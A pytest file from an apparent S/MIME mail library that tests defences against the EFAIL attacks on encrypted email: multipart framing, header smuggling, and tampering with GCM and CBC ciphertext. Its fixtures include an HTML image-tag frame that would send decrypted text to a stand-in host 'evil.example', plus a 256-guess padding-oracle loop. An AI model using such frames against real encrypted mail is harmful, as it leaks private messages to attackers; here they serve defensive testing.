"""EFAIL: decrypted text never stands in a frame somebody else made, and changed ciphertext is never told apart.

See also
    efail.de, Poddebniak and others, "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels".
"""

from __future__ import annotations

import asyncio

import pytest

from letterlock.mail.message import Message
from letterlock.mail.parse import Part
from letterlock.smime.mime import to_mime, wrap
from letterlock.smime.peel import Peeled, peel
from tests.fakes.authority import Identity
from tests.fakes.own_keys import Keys
from tests.fakes.people import encrypted, encrypted_entity, person, signed

BOB = person("bob")
SECRET = b"the launch code is 0000"
LETTER = (
    b"From: carol@example.net\r\nTo: bob@example.net\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html\r\n\r\n<p>" + SECRET + b"</p>\r\n"
)


def peeled(octets: bytes, *who: Identity) -> Peeled:
    """With bob's key."""
    return asyncio.run(peel(Message(octets), Keys(*(who or (BOB,)))))


def prey() -> bytes:
    """What the attacker has: an encrypted entity that only bob can open."""
    return encrypted_entity(wrap(Message(LETTER)).entity, BOB)


FRAMES = {
    "image url around it": (
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/',
        b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">',
    ),
    "alone in a multipart": (b"", b""),
    "first": (b"", b"\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>x"),
    "last": (b"--b\r\nContent-Type: text/plain\r\n\r\nx", b""),
}  # fmt: skip


@pytest.mark.req("B1")
@pytest.mark.parametrize("kind", [b"mixed", b"alternative", b"related", b"report"])
@pytest.mark.parametrize("frame", FRAMES.values(), ids=FRAMES.keys())
def test_an_encrypted_part_beside_others_is_not_opened(frame: tuple[bytes, bytes], kind: bytes) -> None:
    before, after = frame
    octets = (
        b"From: evil@example.net\r\nTo: bob@example.net\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/%b; boundary="b"\r\n\r\n%b\r\n--b\r\n%b\r\n%b\r\n--b--\r\n'
        % (kind, before, prey(), after)
    )
    keys = Keys(BOB)
    found = asyncio.run(peel(Message(octets), keys))
    assert found.layers == ()
    assert found.opened is found.message
    assert not keys.held[0].asked


def test_not_inside_an_attached_message_either() -> None:
    octets = b"From: evil@example.net\r\nContent-Type: message/rfc822\r\n\r\n" + prey()
    assert peeled(octets).layers == ()


def test_not_in_a_multipart_that_the_attacker_signed() -> None:
    """A signature around the frame does not make the frame the sender's of the prey."""
    frame = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n%b\r\n--b--\r\n' % prey()
    octets = signed(b"From: alice@example.org\r\n" + frame, person("alice"))
    found = peeled(octets)
    assert [each.kind for each in found.layers] == ["signed"]
    assert SECRET not in bytes(found.bare().octets)


def test_the_whole_message_is_opened_and_stands_alone() -> None:
    found = peeled(encrypted(LETTER, BOB))
    assert bytes(found.opened.octets) == LETTER


def test_outer_content_fields_do_not_frame_it() -> None:
    """What the attacker says about the content from outside is gone with the layer."""
    outer = b"From: evil@example.net\r\nContent-Disposition: attachment\r\nContent-Location: http://evil.example/\r\n"
    found = peeled(outer + prey())
    assert found.opened.first(b"content-location") is None
    assert found.opened.first(b"content-disposition") is None
    assert found.opened.first(b"content-type") == b"text/html"


def cms(cipher: str) -> tuple[bytes, int]:
    """An encrypted letter as CMS object, and where its content starts."""
    octets = b"".join(Part(encrypted(LETTER, BOB, cipher=cipher)).decoded())
    entity = sum(map(len, wrap(Message(LETTER)).entity))
    tail = 18 if cipher.endswith("gcm") else 0
    length = entity if tail else (entity // 16 + 1) * 16
    return octets, len(octets) - tail - length


@pytest.mark.req("B1")
@pytest.mark.parametrize("where", [0, 1, 20, -1])
def test_changed_gcm_releases_nothing(where: int) -> None:
    octets, start = cms("aes256-gcm")
    at = start + where if where >= 0 else len(octets) + where
    changed = octets[:at] + bytes((octets[at] ^ 1,)) + octets[at + 1 :]
    found = peeled(b"From: evil@example.net\r\n" + b"".join(to_mime([changed], "authEnveloped-data")))
    assert [(each.opened, each.verdict) for each in found.layers] == [(False, "decryption-failed")]
    assert found.opened is found.message
    assert SECRET not in bytes(found.bare().octets)


@pytest.mark.req("B1")
def test_changed_cbc_tells_nothing_by_its_failure() -> None:
    """The same facts for a changed key, padding and length; 256 paddings are tried, as an oracle would be."""
    octets, start = cms("aes256-cbc")
    seen = set()
    for guess in range(256):
        # the block before the last changes the padding of the last
        at = len(octets) - 17
        changed = octets[:at] + bytes((octets[at] ^ guess,)) + octets[at + 1 :]
        found = peeled(b"From: e@example.net\r\n" + b"".join(to_mime([changed], "enveloped-data")))
        (layer,) = found.layers
        seen.add((layer.opened, layer.verdict, layer.detail))
    assert seen == {(True, "ok", ""), (False, "decryption-failed", "")}
    cut = peeled(b"From: e@example.net\r\n" + b"".join(to_mime([octets[: start + 32]], "enveloped-data"))).layers[0]
    assert (cut.opened, cut.verdict, cut.detail) == (False, "decryption-failed", "")
